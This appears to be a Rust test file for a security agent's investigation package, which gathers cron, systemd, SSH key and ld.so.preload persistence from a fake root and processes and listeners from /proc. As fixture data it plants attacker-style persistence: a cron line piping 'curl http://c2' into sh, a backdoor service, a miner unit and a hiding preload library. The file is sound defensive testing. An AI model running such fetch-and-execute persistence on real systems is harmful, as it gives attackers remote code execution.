//! The investigation package against a fake root (persistence locations) and against the
//! real /proc (this test process and its TCP listener).
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::{Path, PathBuf};

use serde_json::Value;
use ward_agent::respond::package::{PackageLimits, RecentChange, collect, collect_under};
use ward_detect::event::FileOp;

fn write(root: &Path, rel: &str, content: &str) -> PathBuf {
    let p = root.join(rel);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(&p, content).unwrap();
    p
}

fn paths(section: &Value) -> Vec<String> {
    section["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["path"].as_str().unwrap().to_string())
        .collect()
}

#[test]
fn fake_root_persistence() {
    let dir = tempfile::tempdir().unwrap();
    let r = dir.path();
    write(r, "etc/crontab", "* * * * * root /tmp/.x/beacon\n");
    write(r, "etc/cron.d/evil", "*/5 * * * * root curl http://c2 | sh\n");
    write(r, "etc/cron.daily/logrotate", "#!/bin/sh\n");
    write(r, "var/spool/cron/crontabs/bob", "@reboot /home/bob/.m\n");
    write(
        r,
        "etc/systemd/system/backdoor.service",
        "[Service]\nExecStart=/opt/bd\n",
    );
    std::fs::create_dir_all(r.join("etc/systemd/system/multi-user.target.wants")).unwrap();
    std::os::unix::fs::symlink(
        "/etc/systemd/system/backdoor.service",
        r.join("etc/systemd/system/multi-user.target.wants/backdoor.service"),
    )
    .unwrap();
    write(
        r,
        "home/bob/.config/systemd/user/miner.service",
        "[Service]\nExecStart=/home/bob/xmrig\n",
    );
    write(
        r,
        "home/bob/.ssh/authorized_keys",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl bob@laptop\n",
    );
    // A user's symlink to a secret is reported, never read.
    write(r, "etc/shadow", "root:$6$secret:19000::::::\n");
    std::fs::create_dir_all(r.join("root/.ssh")).unwrap();
    std::os::unix::fs::symlink(r.join("etc/shadow"), r.join("root/.ssh/authorized_keys")).unwrap();
    write(r, "etc/ld.so.preload", "/lib/libhide.so\n");
    // A big cron file is cut.
    write(r, "etc/cron.d/big", &"x".repeat(10_000));

    let changes = vec![RecentChange {
        observed_at_ms: 1,
        op: FileOp::Create,
        path: "/home/bob/.m".into(),
        from_path: None,
        sha256: None,
        size: Some(3),
        mode: Some(0o755),
        uid: Some(1000),
    }];
    let limits = PackageLimits {
        max_file_bytes: 1024,
        ..PackageLimits::default()
    };
    let bytes = collect_under(r, &[PathBuf::from("/home")], &changes, &limits).unwrap();
    let doc: Value = serde_json::from_slice(&bytes).unwrap();
    assert_eq!(doc["format"], "ward-investigation-package/1");
    let p = &doc["persistence"];

    let cron = paths(&p["cron"]);
    for expected in [
        "/etc/crontab",
        "/etc/cron.d/evil",
        "/etc/cron.daily/logrotate",
        "/var/spool/cron/crontabs/bob",
    ] {
        assert!(cron.contains(&expected.to_string()), "{expected} missing from {cron:?}");
    }
    let evil = p["cron"]["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|i| i["path"] == "/etc/cron.d/evil")
        .unwrap();
    assert!(evil["content"].as_str().unwrap().contains("curl http://c2"));
    let big = p["cron"]["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|i| i["path"] == "/etc/cron.d/big")
        .unwrap();
    assert_eq!(big["content"].as_str().unwrap().len(), 1024);
    assert_eq!(big["content_truncated"], true);

    let systemd = paths(&p["systemd"]);
    assert!(systemd.contains(&"/etc/systemd/system/backdoor.service".to_string()));
    assert!(systemd.contains(&"/home/bob/.config/systemd/user/miner.service".to_string()));
    let wants = p["systemd"]["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|i| i["path"] == "/etc/systemd/system/multi-user.target.wants/backdoor.service")
        .unwrap();
    assert_eq!(wants["kind"], "symlink");
    assert!(wants["mtime_ms"].as_i64().unwrap() > 0);

    let keys = p["authorized_keys"]["items"].as_array().unwrap();
    let bob = keys
        .iter()
        .find(|k| k["file"]["path"] == "/home/bob/.ssh/authorized_keys")
        .unwrap();
    assert_eq!(bob["keys"][0]["key_type"], "ssh-ed25519");
    assert_eq!(bob["keys"][0]["comment"], "bob@laptop");
    assert!(bob["keys"][0]["fingerprint"].as_str().unwrap().starts_with("SHA256:"));
    let root_keys = keys
        .iter()
        .find(|k| k["file"]["path"] == "/root/.ssh/authorized_keys")
        .unwrap();
    assert_eq!(root_keys["file"]["kind"], "symlink");
    assert!(root_keys["keys"].as_array().unwrap().is_empty());
    assert!(!String::from_utf8_lossy(&bytes).contains("$6$secret"));

    let preload = &p["ld_so_preload"]["items"][0];
    assert_eq!(preload["path"], "/etc/ld.so.preload");
    assert_eq!(preload["content"], "/lib/libhide.so\n");

    assert_eq!(doc["recent_changes"]["items"][0]["path"], "/home/bob/.m");
    assert_eq!(doc["watched_paths"][0], "/home");
    // No /proc in the fake root: listed as errors, not fatal.
    assert!(!doc["processes"]["errors"].as_array().unwrap().is_empty());
    assert!(!doc["connections"]["errors"].as_array().unwrap().is_empty());
}

#[test]
fn small_limits_truncate_with_a_note() {
    let dir = tempfile::tempdir().unwrap();
    for i in 0..10 {
        write(dir.path(), &format!("etc/cron.d/job{i}"), "* * * * * root true\n");
    }
    let limits = PackageLimits {
        max_entries: 3,
        ..PackageLimits::default()
    };
    let doc: Value = serde_json::from_slice(&collect_under(dir.path(), &[], &[], &limits).unwrap()).unwrap();
    let cron = &doc["persistence"]["cron"];
    assert_eq!(cron["items"].as_array().unwrap().len(), 3);
    assert!(cron["truncated"].is_string());
}

#[test]
fn real_proc_lists_this_process_and_its_listener() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let me = std::process::id();
    let doc: Value = serde_json::from_slice(&collect(&[], &[], &PackageLimits::default()).unwrap()).unwrap();
    let procs = doc["processes"]["items"].as_array().unwrap();
    let mine = procs.iter().find(|p| p["pid"] == me).expect("this process is listed");
    assert!(!mine["exe"].as_str().unwrap().is_empty());
    assert!(mine["cmdline"].as_str().unwrap().contains("respond_package"));
    let conns = doc["connections"]["items"].as_array().unwrap();
    let local = format!("127.0.0.1:{port}");
    let l = conns
        .iter()
        .find(|c| c["local"] == local.as_str() && c["proto"] == "tcp")
        .expect("the listener is listed");
    assert_eq!(l["state"], "LISTEN");
    assert!(l["pids"].as_array().unwrap().iter().any(|p| p == me));
    drop(listener);
}
